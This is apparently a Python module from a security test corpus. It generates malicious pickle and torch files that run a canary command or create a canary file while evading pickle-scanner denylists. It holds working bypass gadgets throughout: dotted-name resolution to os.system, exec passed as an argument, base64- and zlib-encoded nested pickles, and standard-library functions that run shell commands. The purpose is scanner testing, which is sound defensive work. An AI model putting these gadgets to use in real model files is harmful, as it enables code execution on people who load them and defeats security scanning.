"""Classes ``indirect-callable`` and ``file-write``: reaching a command without naming ``os.system``.

Three shapes: (1) a dotted name resolved through a module attribute (protocol 4's
``find_class`` walks ``pathlib`` -> ``.os`` -> ``.system``); (2) a dangerous callable that is
only ever an *argument*, called by something that looks harmless (a tensor rebuild that calls
its first argument, ``map`` forced by ``list``, ``functools.reduce``, a BUILD that installs
``__setstate__``), or that is computed at load time (``_import_dotted_name``,
``pkgutil.resolve_name``); (3) standard-library, numpy, scikit-learn and torch functions that
run a command or code string and that denylists keep missing (the picklescan GHSA series,
Sonatype CVE-2025-1716, "The Art of Hide and Seek" gadgets). Each callable was checked to exist
in this environment and its source read to confirm the arguments below run the canary command.
``file-write`` holds callables that create a file (the canary) without running any code.
"""

from __future__ import annotations

import base64
import re
import types
import zlib
from pathlib import Path

from . import _build as b
from ._common import Spec, torch_zip

IND = "indirect-callable"
FW = "file-write"


def _slug(text: str) -> str:
    return re.sub(r"[^A-Za-z0-9_]+", "-", text).strip("-")


def _s(text: str) -> bytes:
    return b.ustr(text)


def _p4(body: bytes) -> bytes:
    data = b.stream(body, 4)
    b.check_pickle(data)
    return data


def _method(module: str, dotted: str, inst: bytes, *args: bytes) -> bytes:
    """``module.Class.method(instance, *args)``: an unbound method via a dotted name."""
    return b.call(b.sglob(module, dotted), inst, *args)


def _cloudpickle_call(canary: Path) -> bytes:
    """A cloudpickle'd function (code object and all) followed by a call of it."""
    import cloudpickle

    module_code = compile(f"def restore():\n    {b.py_code(canary)}\n", "<corpus>", "exec")
    fn_code = next(c for c in module_code.co_consts if isinstance(c, types.CodeType))
    fn = types.FunctionType(fn_code, {"__builtins__": __builtins__}, "restore")
    raw: bytes = cloudpickle.dumps(fn, protocol=2)
    assert raw[:2] == b"\x80\x02" and raw[-1:] == b.STOP
    data = raw[:-1] + b.EMPTY_TUPLE + b.REDUCE + b.STOP
    b.check_pickle(data)
    return data


def build(canary: Path) -> list[Spec]:
    cmd, code, expr = b.shell_cmd(canary), b.py_code(canary), b.py_expr(canary)
    nested = b.stream(b.system_call(canary), 2)
    specs: list[Spec] = []

    def add(name: str, desc: str, body: bytes, klass: str = IND) -> None:
        specs.append(Spec(name, klass, desc, _p4(body)))

    # -- (1) dotted names through module attributes ---------------------------------------
    for module, dotted in (("pathlib", "os.system"), ("shutil", "os.system"), ("tempfile", "_os.system"),
                           ("tempfile", "_shutil.os.system"), ("torch.serialization", "os.system"),
                           ("torch", "serialization.os.system"), ("inspect", "os.system"),
                           ("torch._tensor", "torch.serialization.os.system"),
                           ("torch._utils", "torch.os.system")):
        add(f"dotted-{_slug(module)}--{_slug(dotted)}.pkl",
            f"STACK_GLOBAL '{module}' '{dotted}': protocol 4 find_class resolves the dotted path "
            f"to os.system through module attributes", b.call(b.sglob(module, dotted), _s(cmd)))
    add("dotted-global-text-posixpath.pkl",
        "protocol 4 GLOBAL (text opcode, not STACK_GLOBAL) 'posixpath' 'os.system': dotted names "
        "resolve in GLOBAL too", b.call(b.glob("posixpath", "os.system"), _s(cmd)))
    add("dotted-main-builtins-exec.pkl",
        "'__main__' '__builtins__.exec': the running script's builtins module, reached by a dunder "
        "attribute of __main__", b.call(b.sglob("__main__", "__builtins__.exec"), _s(code)))
    for module in ("numpy.lib._format_impl", "joblib.numpy_pickle", "torch.serialization"):
        add(f"dotted-{_slug(module)}-pickle-loads.pkl",
            f"'{module}' 'pickle.loads': the module's own pickle import, called on embedded bytes "
            f"that hold an os.system pickle", b.call(b.sglob(module, "pickle.loads"), b.pbytes(nested)))

    # -- (2) callables passed as arguments or computed at load time ----------------------
    dotted_system = b.call(b.sglob("torch._utils", "_import_dotted_name"), _s("os.system"))
    rebuild = b.sglob("torch._tensor", "_rebuild_from_type_v2")
    add("rebuild-from-type-import-dotted.pt",
        "torch._tensor._rebuild_from_type_v2 (allowlisted) calls its first argument: the argument is "
        "torch._utils._import_dotted_name('os.system'), computed at load time",
        b.call(rebuild, dotted_system, b.sglob("torch", "Tensor"), b.tup(_s(cmd)), b.EMPTY_DICT))
    add("rebuild-from-type-memo-exec.pt",
        "_rebuild_from_type_v2 whose callable argument is builtins.exec memoized early (in a decoy "
        "dict) and fetched with BINGET",
        b.EMPTY_DICT + _s("note") + b.sglob("builtins", "exec") + b"q\x09" + b.SETITEM + b.POP
        + b.call(rebuild, b"h\x09", b.sglob("torch", "Tensor"), b.tup(_s(code)), b.EMPTY_DICT))
    add("rebuild-from-type-nested.pt",
        "_rebuild_from_type_v2 calling _rebuild_from_type_v2 calling posix.system: the dangerous "
        "callable is two argument-levels deep",
        b.call(rebuild, rebuild, b.sglob("torch", "Tensor"),
               b.tup(b.sglob("posix", "system"), b.sglob("torch", "Tensor"), b.tup(_s(cmd)), b.EMPTY_DICT),
               b.EMPTY_DICT))
    add("list-map-import-dotted.pkl",
        "list(map(f, [cmd])) where f = _import_dotted_name('posix.system'): map defers the call, "
        "list forces it; no REDUCE ever names the command runner",
        b.call(b.sglob("builtins", "list"),
               b.call(b.sglob("builtins", "map"),
                      b.call(b.sglob("torch._utils", "_import_dotted_name"), _s("posix.system")),
                      b.plist(_s(cmd)))))
    add("functools-reduce-exec.pkl",
        "functools.reduce(builtins.exec, [{}], code) calls exec(code, {}): exec only appears as an "
        "argument", b.call(b.sglob("functools", "reduce"), b.sglob("builtins", "exec"),
                           b.plist(b.EMPTY_DICT), _s(code)))
    od = b.call(b.sglob("collections", "OrderedDict"))
    add("build-setstate-ordereddict.pkl",
        "BUILD installs os.system as an OrderedDict instance's __setstate__; a second BUILD calls it "
        "with the command (no REDUCE on os.system)",
        od + b.pdict([(_s("__setstate__"), b.sglob("os", "system"))]) + b.BUILD + _s(cmd) + b.BUILD)
    add("build-setstate-namespace-dotted.pkl",
        "BUILD __setstate__ injection on argparse.Namespace with exec fetched by _import_dotted_name",
        b.call(b.sglob("argparse", "Namespace"))
        + b.pdict([(_s("__setstate__"), b.call(b.sglob("torch._utils", "_import_dotted_name"),
                                               _s("builtins.exec")))]) + b.BUILD + _s(code) + b.BUILD)
    add("pkgutil-resolve-name.pkl",
        "pkgutil.resolve_name('os:system') returns os.system, then REDUCE calls the computed value "
        "(GHSA-vvpj-8cmc-gx39, the universal picklescan bypass)",
        b.call(b.call(b.sglob("pkgutil", "resolve_name"), _s("os:system")), _s(cmd)))
    add("pydoc-locate.pkl", "pydoc.locate('os.system') then a call of the computed value",
        b.call(b.call(b.sglob("pydoc", "locate"), _s("os.system")), _s(cmd)))
    add("importlib-getattr.pkl",
        "builtins.getattr(importlib.import_module('os'), 'system')(cmd) (picklescan issue #66 chain)",
        b.call(b.call(b.sglob("builtins", "getattr"),
                      b.call(b.sglob("importlib", "import_module"), _s("os")), _s("system")), _s(cmd)))
    add("attrgetter-sysmodules.pkl",
        "operator.attrgetter('system')(importlib.import_module('posix'))(cmd)",
        b.call(b.call(b.call(b.sglob("operator", "attrgetter"), _s("system")),
                      b.call(b.sglob("importlib", "import_module"), _s("posix"))), _s(cmd)))

    # nested loaders: a second pickle in the bytes, plain or encoded so no scan of bytes sees it
    load_bytes = b.sglob("torch.storage", "_load_from_bytes")
    add("torch-load-from-bytes.pt",
        "torch.storage._load_from_bytes(b) = torch.load(BytesIO(b), weights_only=False) on an "
        "embedded os.system pickle", b.call(load_bytes, b.pbytes(nested)))
    add("torch-load-from-bytes-zip.pt",
        "torch.storage._load_from_bytes on an embedded torch.save zip whose data.pkl is malicious",
        b.call(load_bytes, b.pbytes(torch_zip(nested))))
    add("torch-load-from-bytes-base64.pt",
        "the embedded pickle base64-encoded, decoded at load time by _codecs.decode(..., 'base64')",
        b.call(load_bytes, b.call(b.sglob("_codecs", "decode"), b.pbytes(base64.b64encode(nested)),
                                  _s("base64"))))
    add("torch-load-from-bytes-zlib.pt",
        "the embedded pickle zlib-compressed, inflated at load time by _codecs.decode(..., 'zlib')",
        b.call(load_bytes, b.call(b.sglob("_codecs", "decode"), b.pbytes(zlib.compress(nested)),
                                  _s("zlib"))))
    add("torch-load-from-bytes-latin1.pt",
        "the embedded pickle as _codecs.encode(str, 'latin1'), protocol 2's way of writing bytes",
        b.call(load_bytes, b.call(b.sglob("_codecs", "encode"), _s(nested.decode("latin1")),
                                  _s("latin1"))))
    add("numpy-read-array-bytesio.pkl",
        "numpy.lib.format.read_array(io.BytesIO(npy), True): an object .npy inside the pickle, "
        "unpickled by numpy's own reader",
        b.call(b.sglob("numpy.lib.format", "read_array"),
               b.call(b.sglob("io", "BytesIO"),
                      b.pbytes(b.npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", nested))),
               b.NEWTRUE))
    add("lib2to3-grammar-loads.pkl",
        "lib2to3.pgen2.grammar.Grammar.loads(Grammar(), bytes): pickle.loads on embedded bytes "
        "(GHSA advisory class: lib2to3)",
        _method("lib2to3.pgen2.grammar", "Grammar.loads", b.call(b.sglob("lib2to3.pgen2.grammar", "Grammar")),
                b.pbytes(nested)))
    add("datapipes-basichandlers.pkl",
        "torch.utils.data.datapipes.utils.decoder.basichandlers('pickle', bytes) -> pickle.loads",
        b.call(b.sglob("torch.utils.data.datapipes.utils.decoder", "basichandlers"), _s("pickle"),
               b.pbytes(nested)))

    # -- (3) functions that run a command or code string --------------------------------------
    gadgets: list[tuple[str, str, bytes]] = [
        ("mailcap-findmatch", "mailcap.findmatch runs a matching entry's 'test' field with os.system",
         b.call(b.sglob("mailcap", "findmatch"),
                b.pdict([(_s("x/y"), b.plist(b.pdict([(_s("view"), _s("v")), (_s("test"), _s(cmd))])))]),
                _s("x/y"))),
        ("timeit-setup", "timeit.timeit('pass', setup=code): the setup string is compiled and run",
         b.call(b.sglob("timeit", "timeit"), _s("pass"), _s(code))),
        ("cprofile-run", "cProfile.run(code) execs the string", b.call(b.sglob("cProfile", "run"), _s(code))),
        ("profile-run", "profile.run(code) execs the string", b.call(b.sglob("profile", "run"), _s(code))),
        ("trace-run", "trace.Trace.run(Trace(0, 0), code) execs the string",
         _method("trace", "Trace.run", b.call(b.sglob("trace", "Trace"), b.pint(0), b.pint(0)), _s(code))),
        ("bdb-run", "bdb.Bdb.run(Bdb(), code) execs the string under a no-op debugger",
         _method("bdb", "Bdb.run", b.call(b.sglob("bdb", "Bdb")), _s(code))),
        ("doctest-debug-script", "doctest.debug_script(code, pm=True) execs the string",
         b.call(b.sglob("doctest", "debug_script"), _s(code), b.NEWTRUE)),
        ("pydoc-pipepager", "pydoc.pipepager('', cmd) runs cmd with shell=True",
         b.call(b.sglob("pydoc", "pipepager"), _s(""), _s(cmd))),
        ("pydoc-tempfilepager", "pydoc.tempfilepager('', cmd) runs os.system(cmd + file)",
         b.call(b.sglob("pydoc", "tempfilepager"), _s(""), _s(cmd))),
        ("osx-support-read-output", "_osx_support._read_output(cmd) runs os.system (on any platform)",
         b.call(b.sglob("_osx_support", "_read_output"), _s(cmd))),
        ("uuid-get-command-stdout", "uuid._get_command_stdout('touch', path) runs the executable",
         b.call(b.sglob("uuid", "_get_command_stdout"), _s("touch"), _s(str(canary)))),
        ("ensurepip-run-pip", "ensurepip._run_pip(args, additional_paths): additional_paths is "
         "formatted into the code of a python -c subprocess (code injection)",
         b.call(b.sglob("ensurepip", "_run_pip"), b.plist(_s("--version")),
                _s(f"__import__('os').system({cmd!r}) or []"))),
        ("idlelib-executive-runcode", "idlelib.run.Executive.runcode(Executive(None), code) execs",
         _method("idlelib.run", "Executive.runcode", b.call(b.sglob("idlelib.run", "Executive"), b.NONE),
                 _s(code))),
        ("code-interpreter-runsource", "code.InteractiveInterpreter.runsource (picklescan lists only "
         "runcode) compiles and runs the string",
         _method("code", "InteractiveInterpreter.runsource",
                 b.call(b.sglob("code", "InteractiveInterpreter")), _s(code))),
        ("code-console-push", "code.InteractiveConsole.push(console, line) runs the line",
         _method("code", "InteractiveConsole.push", b.call(b.sglob("code", "InteractiveConsole")), _s(code))),
        ("distutils-spawn", "distutils.spawn.spawn(['touch', path]) (a distutils submodule other than "
         "the listed file_util)", b.call(b.sglob("distutils.spawn", "spawn"),
                                          b.plist(_s("touch"), _s(str(canary))))),
        ("multiprocessing-spawnv-passfds", "multiprocessing.util.spawnv_passfds('/bin/sh', [...], []) "
         "fork-execs a shell", b.call(b.sglob("multiprocessing.util", "spawnv_passfds"), _s("/bin/sh"),
                                     b.plist(_s("sh"), _s("-c"), _s(cmd)), b.EMPTY_LIST)),
        ("imaplib-imap4-stream", "imaplib.IMAP4_stream(cmd) Popens cmd with shell=True",
         b.call(b.sglob("imaplib", "IMAP4_stream"), _s(cmd))),
        ("webbrowser-genericbrowser", "webbrowser.GenericBrowser(['touch', path]).open(url) Popens it",
         _method("webbrowser", "GenericBrowser.open",
                 b.call(b.sglob("webbrowser", "GenericBrowser"), b.plist(_s("touch"), _s(str(canary)))),
                 _s("http://example.invalid/"))),
        ("logging-dictconfig", "logging.config.dictConfig with a formatter factory '()': "
         "'subprocess.Popen' given as a string, so no pickle global names subprocess",
         b.call(b.sglob("logging.config", "dictConfig"), b.pdict([
             (_s("version"), b.pint(1)),
             (_s("formatters"), b.pdict([(_s("f"), b.pdict([(_s("()"), _s("subprocess.Popen")),
                                                           (_s("args"), _s(cmd)),
                                                           (_s("shell"), b.NEWTRUE)]))]))]))),
        ("typing-eval-type", "typing._eval_type(ForwardRef(expr), None, None) evals the expression",
         b.call(b.sglob("typing", "_eval_type"), b.call(b.sglob("typing", "ForwardRef"), _s(expr)),
                b.NONE, b.NONE)),
        ("dataclasses-create-fn", "dataclasses._create_fn('f', ['x=<expr>'], ['pass']) execs generated "
         "source; the default value runs when the function is defined",
         b.call(b.sglob("dataclasses", "_create_fn"), _s("f"), b.plist(_s(f"x={expr}")),
                b.plist(_s("pass")))),
        ("pip-main-log", "pip.main(['--log', path, 'config', 'list']) (Sonatype CVE-2025-1716: pip.main "
         "as a callable); the --log option creates the file",
         b.call(b.sglob("pip", "main"), b.plist(_s("--log"), _s(str(canary)), _s("config"), _s("list")))),
        ("torch-collect-env-run", "torch.utils.collect_env.run(cmd) Popens with shell=True",
         b.call(b.sglob("torch.utils.collect_env", "run"), _s(cmd))),
        ("torch-fx-exec-with-source", "torch.fx.graph_module._exec_with_source(code, {}) execs",
         b.call(b.sglob("torch.fx.graph_module", "_exec_with_source"), _s(code), b.EMPTY_DICT)),
        ("torch-jit-execwrapper", "torch.jit.unsupported_tensor_ops.execWrapper(code, {}, {}) execs",
         b.call(b.sglob("torch.jit.unsupported_tensor_ops", "execWrapper"), _s(code), b.EMPTY_DICT,
                b.EMPTY_DICT)),
        ("torch-inductor-pycodecache", "torch._inductor.codecache.PyCodeCache.load(code) writes the code "
         "to a module and imports it", b.call(b.sglob("torch._inductor.codecache", "PyCodeCache.load"),
                                              _s(code))),
        ("numpy-runstring", "numpy.testing._private.utils.runstring(code, {}) execs",
         b.call(b.sglob("numpy.testing._private.utils", "runstring"), _s(code), b.EMPTY_DICT)),
        ("numpy-f2py-myeval", "numpy.f2py.crackfortran.myeval(expr) evals",
         b.call(b.sglob("numpy.f2py.crackfortran", "myeval"), _s(expr))),
        ("sklearn-run-script", "sklearn.utils._testing.assert_run_python_script_without_output(code) "
         "runs the code in a python subprocess (a scikit-learn name)",
         b.call(b.sglob("sklearn.utils._testing", "assert_run_python_script_without_output"), _s(code))),
    ]
    for stem, desc, body in gadgets:
        add(f"gadget-{stem}.pkl", desc, body)
    specs.append(Spec("gadget-cloudpickle-function.pkl", IND,
                      "a cloudpickle'd function (CodeType rebuilt from the file) called right away",
                      _cloudpickle_call(canary)))

    # -- file-write: create the canary without running code ---------------------------------
    path = _s(str(canary))
    writes: list[tuple[str, str, bytes]] = [
        ("pathlib-touch", "pathlib.Path.touch(PosixPath(path)) (Path itself is allowlisted)",
         _method("pathlib", "Path.touch", b.call(b.sglob("pathlib", "PosixPath"), path))),
        ("pathlib-write-text", "pathlib.Path.write_text(Path(path), text)",
         _method("pathlib", "Path.write_text", b.call(b.sglob("pathlib", "Path"), path), _s("x"))),
        ("shutil-copyfile", "shutil.copyfile('/dev/null', path)",
         b.call(b.sglob("shutil", "copyfile"), _s("/dev/null"), path)),
        ("io-fileio", "_io.FileIO(path, 'w') (picklescan GHSA: io.FileIO)",
         b.call(b.sglob("_io", "FileIO"), path, _s("w"))),
        ("builtins-open", "builtins.open(path, 'w')", b.call(b.sglob("builtins", "open"), path, _s("w"))),
        ("logging-filehandler", "logging.FileHandler(path) opens the file at construction",
         b.call(b.sglob("logging", "FileHandler"), path)),
        ("codecs-open", "codecs.open(path, 'w')", b.call(b.sglob("codecs", "open"), path, _s("w"))),
        ("gzip-open", "gzip.open(path, 'wb')", b.call(b.sglob("gzip", "open"), path, _s("wb"))),
        ("zipfile-zipfile", "zipfile.ZipFile(path, 'w')",
         b.call(b.sglob("zipfile", "ZipFile"), path, _s("w"))),
        ("tarfile-open", "tarfile.open(path, 'w')", b.call(b.sglob("tarfile", "open"), path, _s("w"))),
        ("sqlite3-connect", "sqlite3.connect(path) creates the database file",
         b.call(b.sglob("sqlite3", "connect"), path)),
        ("numpy-savetxt", "numpy.savetxt(path, [0])", b.call(b.sglob("numpy", "savetxt"), path,
                                                             b.plist(b.pint(0)))),
        ("numpy-memmap", "numpy.memmap(path, 'u1', 'w+', 0, (1,)) creates the file",
         b.call(b.sglob("numpy", "memmap"), path, _s("u1"), _s("w+"), b.pint(0), b.tup(b.pint(1)))),
        ("numpy-tofile", "numpy.ndarray.tofile(numpy.zeros(1), path)",
         _method("numpy", "ndarray.tofile", b.call(b.sglob("numpy", "zeros"), b.pint(1)), path)),
        ("torch-save", "torch.save({}, path)", b.call(b.sglob("torch", "save"), b.EMPTY_DICT, path)),
    ]
    for stem, desc, body in writes:
        add(f"write-{stem}.pkl", f"creates the canary file: {desc}", body, klass=FW)
    return specs
